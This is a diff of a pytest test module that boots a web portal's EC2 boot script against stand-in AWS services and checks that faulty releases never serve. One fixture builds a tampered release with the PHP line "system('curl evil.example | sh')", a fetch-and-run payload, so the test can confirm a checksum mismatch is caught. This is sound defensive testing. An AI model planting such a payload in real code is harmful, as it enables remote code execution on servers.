@@ -219,62 +219,90 @@ class Boot:
         assert not [c for c in self.calls("systemctl") if "httpd" in c], self.calls("systemctl")
 
 
+GENUINE = release_archive()
+# Each scenario is one fresh machine of its own stack (prefix, buckets); all of them boot at once.
+SCENARIOS = {
+    "healthy": {},
+    "tampered": dict(archive=release_archive(migrate="<?php system('curl evil.example | sh');\n"),
+                     checksum_of=GENUINE),
+    "unuploaded": dict(upload=False),
+    "unconfigured": dict(drop=("database/port", "cache/tls")),
+    "hostport": dict(override={"database/endpoint": "db.example:3306"}),
+    "unmigrated": dict(archive=release_archive(migrate=MIGRATE_FAILS)),
+    "nomigrations": dict(archive=release_archive(migrate=None)),
+    "mislabelled": dict(archive=release_archive(release_file="2026-12-05.9")),
+    "captive": dict(ca_path="/ca/captive-portal.pem"),
+}
+
+
+def prepare(base: Path, stack: str, aws_endpoint: str, metadata: str, *, archive: bytes = GENUINE,
+            checksum_of: bytes | None = None, upload: bool = True, drop: tuple[str, ...] = (),
+            override: dict[str, str] | None = None, ca_path: str = "/ca/global-bundle.pem") -> tuple[list, dict]:
+    """Seeds the stand-ins for `stack` and lays out its machine; returns the command and environment to boot it."""
+    root, shims, log_dir, tmp = base / "root", base / "shims", base / "calls", base / "tmp"
+    for folder in (root, shims, log_dir, tmp):
+        folder.mkdir()
+    for name, body in SHIMS.items():
+        write_shim(shims / name, body)
+    write_shim(root / "opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl",
+               'echo "$*" >> "${SHIM_LOG}/amazon-cloudwatch-agent-ctl"')
+
+    ssm = client("ssm", aws_endpoint)
+    params = {**stack_parameters(stack), **(override or {})}
+    for key, value in params.items():
+        if key not in drop:
+            ssm.put_parameter(Name=f"/portal/{stack}/{key}", Value=value, Type="String", Overwrite=True)
+    s3 = client("s3", aws_endpoint)
+    bucket = params["buckets/releases"]
+    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
+    if upload:
+        digest = hashlib.sha256(checksum_of if checksum_of is not None else archive).hexdigest()
+        s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz", Body=archive)
+        s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz.sha256",
+                      Body=f"{digest}  portal.tar.gz\n".encode())
+    client("secretsmanager", aws_endpoint).create_secret(
+        Name=f"rds!db-{stack}", SecretString=json.dumps({"username": "admin", "password": MASTER_SECRET}))
+
+    script = base / "user-data.sh"
+    script.write_text(render_boot_script(BootConfig(f"/portal/{stack}/", RELEASE, 8080, HEALTH_PATH)))
+    env = {
+        "PATH": f"{shims}:{VENV_BIN}:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
+        "HOME": str(base), "TMPDIR": str(tmp), "SHIM_LOG": str(log_dir), "LANG": "C.UTF-8",
+        "PORTAL_ROOT_DIR": str(root), "PORTAL_IMDS_ENDPOINT": metadata,
+        "PORTAL_RDS_CA_URL": f"{metadata}{ca_path}", "PORTAL_SKIP_PACKAGES": "1",
+        "AWS_ENDPOINT_URL": aws_endpoint, "AWS_EC2_METADATA_DISABLED": "true",
+        "AWS_CONFIG_FILE": str(base / "no-aws-config"),
+        "AWS_SHARED_CREDENTIALS_FILE": str(base / "no-aws-credentials"), **CREDENTIALS,
+    }
+    return ["bash", str(script)], env
+
+
 @pytest.fixture(scope="module")
-def boot_machine(tmp_path_factory, aws_endpoint, metadata):
-    """``boot(stack, ...)``: seeds the stand-ins for `stack`, then runs the rendered boot script on a fresh root."""
-    counter = iter(range(1000))
-
-    def boot(stack: str, *, archive: bytes | None = None, checksum_of: bytes | None = None,
-             upload: bool = True, drop: tuple[str, ...] = (), override: dict[str, str] | None = None,
-             ca_path: str = "/ca/global-bundle.pem", health_path: str = HEALTH_PATH) -> Boot:
-        base = tmp_path_factory.mktemp(f"boot-{stack}-{next(counter)}")
-        root, shims, log_dir, tmp = base / "root", base / "shims", base / "calls", base / "tmp"
-        for folder in (root, shims, log_dir, tmp):
-            folder.mkdir()
-        for name, body in SHIMS.items():
-            write_shim(shims / name, body)
-        write_shim(root / "opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl",
-                   'echo "$*" >> "${SHIM_LOG}/amazon-cloudwatch-agent-ctl"')
-
-        ssm = client("ssm", aws_endpoint)
-        params = {**stack_parameters(stack), **(override or {})}
-        for key, value in params.items():
-            if key not in drop:
-                ssm.put_parameter(Name=f"/portal/{stack}/{key}", Value=value, Type="String", Overwrite=True)
-        s3 = client("s3", aws_endpoint)
-        bucket = params["buckets/releases"]
-        s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
-        if upload:
-            data = archive if archive is not None else release_archive()
-            digest = hashlib.sha256(checksum_of if checksum_of is not None else data).hexdigest()
-            s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz", Body=data)
-            s3.put_object(Bucket=bucket, Key=f"releases/{RELEASE}/portal.tar.gz.sha256",
-                          Body=f"{digest}  portal.tar.gz\n".encode())
-        client("secretsmanager", aws_endpoint).create_secret(
-            Name=f"rds!db-{stack}", SecretString=json.dumps({"username": "admin", "password": MASTER_SECRET}))
-
-        script = base / "user-data.sh"
-        script.write_text(render_boot_script(BootConfig(f"/portal/{stack}/", RELEASE, 8080, health_path)))
-        env = {
-            "PATH": f"{shims}:{VENV_BIN}:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin",
-            "HOME": str(base), "TMPDIR": str(tmp), "SHIM_LOG": str(log_dir), "LANG": "C.UTF-8",
-            "PORTAL_ROOT_DIR": str(root), "PORTAL_IMDS_ENDPOINT": metadata,
-            "PORTAL_RDS_CA_URL": f"{metadata}{ca_path}", "PORTAL_SKIP_PACKAGES": "1",
-            "AWS_ENDPOINT_URL": aws_endpoint, "AWS_EC2_METADATA_DISABLED": "true",
-            "AWS_CONFIG_FILE": str(base / "no-aws-config"),
-            "AWS_SHARED_CREDENTIALS_FILE": str(base / "no-aws-credentials"), **CREDENTIALS,
-        }
-        done = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True, timeout=60)
-        leftovers = list(tmp.iterdir())
-        assert leftovers == [], f"the script leaves its downloads behind: {leftovers}"
-        return Boot(root, log_dir, done.returncode, done.stdout, done.stderr)
-
-    return boot
+def boots(tmp_path_factory, aws_endpoint, metadata) -> dict[str, Boot]:
+    """Every scenario's machine, booted concurrently (each boot waits mostly on the AWS CLI starting up)."""
+    running = {}
+    for stack, options in SCENARIOS.items():
+        base = tmp_path_factory.mktemp(f"boot-{stack}")
+        command, env = prepare(base, stack, aws_endpoint, metadata, **options)
+        running[stack] = (base, subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                                 text=True))
+    results = {}
+    for stack, (base, process) in running.items():
+        try:
+            stdout, stderr = process.communicate(timeout=120)
+        finally:
+            if process.poll() is None:
+                process.kill()
+                process.communicate()
+        leftovers = list((base / "tmp").iterdir())
+        assert leftovers == [], f"{stack}: the script leaves its downloads behind: {leftovers}"
+        results[stack] = Boot(base / "root", base / "calls", process.returncode, stdout, stderr)
+    return results
 
 
 @pytest.fixture(scope="module")
-def healthy(boot_machine) -> Boot:
-    result = boot_machine("healthy")
+def healthy(boots) -> Boot:
+    result = boots["healthy"]
     assert result.returncode == 0, result.stdout + result.stderr
     return result
 
@@ -393,58 +421,56 @@ def test_the_agent_publishes_the_disk_metrics_the_disk_alarms_watch(healthy):
 
 # -- servers that must never serve ------------------------------------------------------------------------------
 
-def test_a_tampered_release_never_serves(boot_machine):
-    genuine = release_archive()
-    tampered = release_archive(migrate="<?php system('curl evil.example | sh');\n")
-    result = boot_machine("tampered", archive=tampered, checksum_of=genuine)
+def test_a_tampered_release_never_serves(boots):
+    result = boots["tampered"]
     result.never_served()
     assert f"portal-boot: FAILED: release {RELEASE}: checksum mismatch" in result.stderr
     assert not result.path(f"/opt/portal/releases/{RELEASE}").exists(), "nothing of it is unpacked"
     assert result.calls("runuser") == []
 
 
-def test_a_release_that_was_never_uploaded_never_serves(boot_machine):
-    result = boot_machine("unuploaded", upload=False)
+def test_a_release_that_was_never_uploaded_never_serves(boots):
+    result = boots["unuploaded"]
     result.never_served()
     assert (f"release {RELEASE}: cannot download s3://unuploaded-releases/releases/{RELEASE}/portal.tar.gz"
             in result.stderr)
 
 
-def test_a_server_missing_its_configuration_never_serves_and_names_every_missing_key(boot_machine):
-    result = boot_machine("unconfigured", drop=("database/port", "cache/tls"))
+def test_a_server_missing_its_configuration_never_serves_and_names_every_missing_key(boots):
+    result = boots["unconfigured"]
     result.never_served()
     assert ("missing parameters (the stack publishes them): /portal/unconfigured/database/port "
             "/portal/unconfigured/cache/tls") in result.stderr
     assert not result.path("/etc/portal/portal.json").exists()
 
 
-def test_a_database_endpoint_with_a_port_is_refused_not_signed_for_the_wrong_host(boot_machine):
-    result = boot_machine("hostport", override={"database/endpoint": "db.example:3306"})
+def test_a_database_endpoint_with_a_port_is_refused_not_signed_for_the_wrong_host(boots):
+    result = boots["hostport"]
     result.never_served()
     assert "/portal/hostport/database/endpoint = db.example:3306: not a host name" in result.stderr
 
 
-def test_a_failing_migration_never_serves(boot_machine):
-    result = boot_machine("unmigrated", archive=release_archive(migrate=MIGRATE_FAILS))
+def test_a_failing_migration_never_serves(boots):
+    result = boots["unmigrated"]
     result.never_served()
     assert "SQLSTATE[HY000] [2002] Connection refused" in result.stderr
     assert f"portal-boot: FAILED: release {RELEASE}: bin/migrate.php failed" in result.stderr
 
 
-def test_a_release_without_migrations_boots(boot_machine):
-    result = boot_machine("nomigrations", archive=release_archive(migrate=None))
+def test_a_release_without_migrations_boots(boots):
+    result = boots["nomigrations"]
     assert result.returncode == 0, result.stderr
     assert result.calls("runuser") == [] and result.marker.read_text() == f"{RELEASE}\n"
 
 
-def test_an_archive_built_for_another_release_never_serves(boot_machine):
-    result = boot_machine("mislabelled", archive=release_archive(release_file="2026-12-05.9"))
+def test_an_archive_built_for_another_release_never_serves(boots):
+    result = boots["mislabelled"]
     result.never_served()
     assert f"release {RELEASE}: the archive's RELEASE file names another release" in result.stderr
 
 
-def test_a_server_that_cannot_verify_the_databases_certificate_never_serves(boot_machine):
-    result = boot_machine("captive", ca_path="/ca/captive-portal.pem")
+def test_a_server_that_cannot_verify_the_databases_certificate_never_serves(boots):
+    result = boots["captive"]
     result.never_served()
     assert "captive-portal.pem is not a PEM certificate bundle" in result.stderr
     assert not result.path("/etc/pki/rds/global-bundle.pem").exists()
